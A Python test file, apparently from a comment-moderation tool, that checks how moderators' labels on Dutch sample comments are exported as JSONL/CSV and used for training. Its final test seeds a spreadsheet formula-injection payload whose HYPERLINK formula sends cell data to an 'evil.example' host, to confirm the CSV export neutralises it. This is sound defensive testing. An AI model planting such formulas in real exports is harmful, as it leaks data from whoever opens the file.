"""Moderators' decisions and corrections as training data (moderation feedback export)."""

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

from click.testing import CliRunner
from helpers.review import db_of, seed, spans_of

from moderation.cli.main import main
from moderation.lab import feedback_export as feedback
from moderation.lab import training
from moderation.ml import corpus, datacheck
from moderation.storage import review_queue as review

INSULT = "Wat een prutsers en klootzakken daar op het stadhuis"


def reviewed(app, site):
    """One comment for every way a moderator can label one; returns their ids by name."""
    db = db_of(app)
    spans = spans_of(INSULT, "prutsers", "insult") + spans_of(INSULT, "klootzakken", "profanity")
    c = {
        "approved": seed(app, site, "approved", text="Meer ruimte voor de wijkteams graag.", score=0.6),
        "insult": seed(app, site, "insult", text=INSULT, score=0.8, categories=["insult", "profanity"], spans=spans),
        "spam": seed(app, site, "spam", text="Koop goedkope zonnepanelen op zon.example!", score=0.3),
        "pii": seed(app, site, "pii", text="Bel de wethouder op 06-12345678", score=0.3),
        "stance": seed(app, site, "stance", text="De raad beslist, niet een denktank.", stance="neutral", score=0.1),
        "escalated": seed(app, site, "escalated", text="Ik weet waar hij woont.", score=0.6),
        "other": seed(app, site, "other", text="Iets vreemds.", score=0.5),
        "civil-after-all": seed(app, site, "civil", text="Die regels zijn kut, laat mensen zelf beslissen.", score=0.7),
        "policy-only": seed(app, site, "policy", text="Automatisch goedgekeurd.", status="approved"),
        "approved-bare": seed(app, site, "bare", text="Die regels zijn kut.", score=0.7),
    }
    review.decide(db, None, [c["approved"]], "approve", "a@example.org")
    # approving, the moderator answered "the flag was wrong": that is a label
    review.correct(db, None, c["approved"], "a@example.org", uncivil=False, confirm=True)
    # a bare approval says the comment may stay online, not that it is civil
    review.decide(db, None, [c["approved-bare"]], "approve", "a@example.org")
    review.decide(db, None, [c["insult"]], "reject", "a@example.org", reason="insult")
    review.decide(db, None, [c["spam"]], "reject", "a@example.org", reason="spam")
    review.decide(db, None, [c["pii"]], "reject", "a@example.org", reason="personal_data")
    review.correct(db, None, c["stance"], "b@example.org", stance="pro-policy")
    review.decide(db, None, [c["escalated"]], "escalate", "a@example.org")
    review.decide(db, None, [c["other"]], "reject", "a@example.org", reason="other")
    review.correct(
        db,
        None,
        c["civil-after-all"],
        "b@example.org",
        uncivil=True,
        categories=["profanity"],
        stance="pro-participation",
    )
    review.decide(db, None, [c["civil-after-all"]], "approve", "b@example.org")
    return c


def test_export_labels_only_what_moderators_said(app, site, tmp_path):
    c = reviewed(app, site)
    out = tmp_path / "feedback.jsonl"
    counts = feedback.export(db_of(app), out)
    rows = {row["id"]: row for row in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
    ids = {name: f"queue-{cid}" for name, cid in c.items()}
    assert set(rows) == {ids[n] for n in ("approved", "insult", "spam", "pii", "stance", "civil-after-all")}
    assert counts == {"examples": 6, "unlabelled": 3, "stance": 2, "incivility": 3}
    assert rows[ids["approved"]] == {
        "id": ids["approved"],
        "text": "Meer ruimte voor de wijkteams graag.",
        "uncivil": False,
        "categories": [],
        "spans": [],
    }
    # rejected as an insult: uncivil with that category, and only the insult span the moderator confirmed
    start = INSULT.index("prutsers")
    assert rows[ids["insult"]] == {
        "id": ids["insult"],
        "text": INSULT,
        "uncivil": True,
        "categories": ["insult"],
        "spans": [[start, start + len("prutsers"), "insult"]],
    }
    assert rows[ids["spam"]] == {
        "id": ids["spam"],
        "text": "Koop goedkope zonnepanelen op zon.example!",
        "tags": ["spam"],
    }
    assert rows[ids["pii"]]["tags"] == ["contains-pii"] and "uncivil" not in rows[ids["pii"]]
    assert rows[ids["stance"]] == {
        "id": ids["stance"],
        "text": "De raad beslist, niet een denktank.",
        "stance": "pro-policy",
    }
    # a correction outweighs the decision that followed it
    row = rows[ids["civil-after-all"]]
    assert (row["stance"], row["uncivil"], row["categories"]) == ("pro-participation", True, ["profanity"])
    assert "spans" not in row  # the model found none for it: unknown, not "none"
    for row in rows.values():
        assert datacheck.row_problems(row) == [], row


def test_exported_rows_are_what_training_reads(app, site, tmp_path):
    reviewed(app, site)
    out = tmp_path / "feedback.jsonl"
    feedback.export(db_of(app), out)
    texts, labels, _ = corpus.labelled([out], "incivility")
    assert sorted(zip(labels, texts))[0] == ("civil", "Meer ruimte voor de wijkteams graag.")
    assert labels.count("uncivil") == 2 and labels.count("civil") == 1
    texts, labels, _ = corpus.labelled([out], "stance")
    assert sorted(labels) == ["pro-participation", "pro-policy"]
    meta = training.train("incivility", [out], None, tmp_path / "models", cv_folds=0, progress=lambda _: None)
    assert meta["promoted"] and meta["training_files"][0]["rows"] == 3
    assert (tmp_path / "models" / "incivility" / "current.json").exists()


def test_csv_export_reads_back_the_same(app, site, tmp_path):
    reviewed(app, site)
    feedback.export(db_of(app), tmp_path / "f.jsonl")
    feedback.export(db_of(app), tmp_path / "f.csv")
    with open(tmp_path / "f.csv", newline="", encoding="utf-8") as f:
        assert csv.DictReader(f).fieldnames == list(feedback.COLUMNS)

    def strip(rows):
        return sorted(
            ({k: v for k, v in r.items() if k != "_line" and v != []} for r in rows),
            key=lambda r: r["id"],
        )

    assert strip(corpus.read_rows(tmp_path / "f.csv")) == strip(corpus.read_rows(tmp_path / "f.jsonl"))


def test_cli_export(app, site, database_url, tmp_path):
    reviewed(app, site)
    out = tmp_path / "out" / "feedback.jsonl"
    result = CliRunner().invoke(
        main, ["feedback", "export", "--out", str(out)], env={"DATABASE_URL": database_url}, catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    assert (
        f"6 labelled examples written to {out}" in result.output
        and "3 reviewed comments carried no label" in result.output
    )
    assert len(out.read_text(encoding="utf-8").splitlines()) == 6
    assert not [p for p in out.parent.iterdir() if p.name.startswith(".feedback-")]  # no temporary file left


def test_nothing_reviewed_writes_an_empty_file(app, site, tmp_path):
    seed(app, site, "c")
    out = tmp_path / "empty.jsonl"
    assert feedback.export(db_of(app), out)["examples"] == 0 and out.read_text() == ""


def test_moderation_train_learns_from_the_export(app, site, database_url, tmp_path):
    """The whole loop as a data scientist runs it: export, then `moderation train --data`."""
    if not database_url.startswith("sqlite"):
        return  # the training step does not depend on the database; once is enough
    reviewed(app, site)
    out = tmp_path / "feedback.jsonl"
    feedback.export(db_of(app), out)
    env = {**os.environ, "MODERATION_MODELS_DIR": str(tmp_path / "models"), "DATABASE_URL": database_url}
    result = subprocess.run(
        [str(Path(sys.executable).parent / "moderation"), "train", "--task", "incivility", "--data", str(out)],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    assert "incivility: 3 training comments from 1 file(s)" in result.stderr and "promoted" in result.stdout
    pointer = json.loads((tmp_path / "models" / "incivility" / "current.json").read_text())
    assert pointer["version"]


def test_csv_export_neutralises_formulas_and_reads_back_exactly(app, site, tmp_path):
    """Issue item 16: comment text starting with = + - @ (or a tab) is no formula in a spreadsheet."""
    db = db_of(app)
    texts = [
        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "+31 6 12345678 bellen",
        "-1 voor dit plan",
        "@wethouder leg het uit",
        "\t=1+1",
        "'=al met apostrof",
        "'s avonds is het stil",
        "Gewone reactie.",
    ]
    ids = [seed(app, site, f"f{i}", text=text, score=0.1) for i, text in enumerate(texts)]
    # a bare approval exports no label: rejected as spam, each row carries a tag
    review.decide(db, None, ids, "reject", "a@example.org", reason="spam")
    feedback.export(db, tmp_path / "f.csv")
    with open(tmp_path / "f.csv", newline="", encoding="utf-8") as f:
        cells = [row["text"] for row in csv.DictReader(f)]
    assert len(cells) == len(texts)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'s avonds is het stil" in cells and "Gewone reactie." in cells  # others untouched
    assert sorted(r["text"] for r in corpus.read_rows(tmp_path / "f.csv")) == sorted(texts)
